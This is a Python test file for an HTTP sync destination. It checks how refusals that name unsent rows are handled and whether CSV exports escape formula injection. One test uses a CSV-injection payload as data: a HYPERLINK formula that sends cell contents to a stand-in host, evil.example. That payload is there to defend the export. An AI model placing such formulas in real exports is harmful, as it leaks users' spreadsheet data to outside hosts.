"""Sync scenarios, round 16: an HTTP receiver's per-row refusal that names no row it was sent.

An acknowledged batch's ``rejected`` list names each refused row by ``index`` into the batch's
array (or by ``row_hash``). A refusal whose index is past the array (a receiver counting from
1 refuses its last row as index ``len``), negative, or whose ``row_hash`` was never sent was
only logged: the run counted every row delivered and ended ``success``, though the receiver
had refused a row -- a row lost without a trace in the run. It is now a sync-level
``destination_error`` naming the refusal: the run ends ``error``, the watermark stays before
the batch, and the next run sends it again (same ``Idempotency-Key``), once the receiver
answers about rows it was sent. An index written as a JSON string of digits (``"3"``) or with
a fraction (``3.0``, a receiver whose numbers are doubles) is read as that index.

A receiver's reason is also the one text of the CSV export zerocopy does not write itself: one
starting with ``=``, ``+``, ``-`` or ``@`` ran as a formula in the spreadsheet that opened the
export; it is now written after a ``'``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.integration.test_http_destination import (
    batch,
    destination,
    http_sync,
    rows,
    sync_db,
    sync_engine,
    warehouse,
)
from tests.peers.http_destination.fixtures import HttpPeer, http_peer, http_peer_server
from zerocopy.errors import ZerocopyError
from zerocopy.services.syncs import export_row_logs
from zerocopy.state.db import Database

__all__ = ["http_peer", "http_peer_server", "sync_db"]

pytestmark = [pytest.mark.anyio, pytest.mark.peer("http_destination")]


def answer(*rejected: dict[str, Any]) -> dict[str, Any]:
    """A scripted 200 whose body refuses ``rejected``."""
    return {"status": 200, "body": {"rejected": list(rejected)}}


@pytest.mark.parametrize(
    "refusal",
    [
        {"index": 10, "code": "invalid_field", "message": "1-based: the last row"},
        {"index": -1, "code": "invalid_field"},
        {"row_hash": "0" * 64, "code": "invalid_field"},
    ],
    ids=["past-the-end", "negative", "unknown-hash"],
)
async def test_a_refusal_naming_no_sent_row_fails_the_run_and_keeps_the_watermark(
    sync_db: Database, http_peer: HttpPeer, tmp_path: Path, refusal: dict[str, Any]
) -> None:
    duck = tmp_path / "wh.duckdb"
    warehouse(duck, 20)
    sync_id = await http_sync(sync_db, duck, {"batch_rows": 10, "backoff_base_s": 0.01})
    http_peer.script({"status": "pass"}, answer(refusal))
    engine = sync_engine(sync_db, http_peer)
    run = await engine.run(sync_id)
    assert (run.status, run.error_code) == ("error", "destination_error"), (
        run.status,
        run.error_message,
    )
    assert "refused a row it was not sent" in (run.error_message or ""), run.error_message
    assert run.watermark_after == run.watermark_before
    assert run.rows_delivered == 0, run.rows_delivered
    again = await engine.run(sync_id)  # the receiver answers about its rows again
    assert (again.status, again.rows_delivered, again.rows_errored) == ("success", 20, 0), (
        again.status,
        again.error_message,
    )
    assert len(http_peer.state()["rows"]) == 20


@pytest.mark.parametrize("index", ["2", 2.0], ids=["digits", "double"])
async def test_an_index_written_as_digits_is_that_index(http_peer: HttpPeer, index: Any) -> None:
    http_peer.script(answer({"index": index, "code": "invalid_field", "message": "bad price"}))
    dest = destination(http_peer)
    result = await dest.deliver(batch(rows(4)))
    await dest.aclose()
    assert result.accepted and result.delivered == 3, result
    assert [(r.index, r.code, r.message) for r in result.rejections] == [
        (2, "invalid_field", "bad price")
    ]


async def test_a_refusal_past_the_end_of_the_second_http_batch_names_it(
    http_peer: HttpPeer,
) -> None:
    http_peer.script({"status": "pass"}, answer({"index": 3}))
    dest = destination(http_peer, batch_rows=3)
    with pytest.raises(ZerocopyError) as info:
        await dest.deliver(batch(rows(6)))
    await dest.aclose()
    assert info.value.code == "destination_error"
    assert "index 3" in info.value.message and "3 rows" in info.value.message, info.value


async def test_a_receiver_s_reason_opened_in_a_spreadsheet_is_text_not_a_formula(
    sync_db: Database, http_peer: HttpPeer, tmp_path: Path
) -> None:
    """The CSV export is opened in spreadsheets. Every cell zerocopy writes starts with a
    letter, a digit or ``{`` (a row is JSON), but a receiver's reason is its own text: one
    starting with ``=``, ``+``, ``-`` or ``@`` was a formula there (CSV injection, OWASP).
    Such a cell is written after a ``'`` (the spreadsheet's text mark); JSON lines keep it."""
    duck = tmp_path / "wh.duckdb"
    warehouse(duck, 5)
    sync_id = await http_sync(sync_db, duck, {"batch_rows": 10})
    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"fix")', "+1-2", "-1+2", "@SUM(A1)"]
    http_peer.script(
        answer(
            *({"index": i, "code": "invalid_field", "message": m} for i, m in enumerate(reasons))
        )
    )
    run = await sync_engine(sync_db, http_peer).run(sync_id)
    assert (run.status, run.rows_errored) == ("partial_success", 4), run.error_message
    text = b"".join([c async for c in export_row_logs(sync_db, run.id, fmt="csv")]).decode()
    table = list(csv.DictReader(io.StringIO(text)))
    assert [r["message"] for r in table] == [f"'{m}" for m in reasons], table
    for record in table:
        for cell in record.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), record
    lines = b"".join([c async for c in export_row_logs(sync_db, run.id, fmt="jsonl")])
    assert [json.loads(x)["message"] for x in lines.splitlines()] == reasons
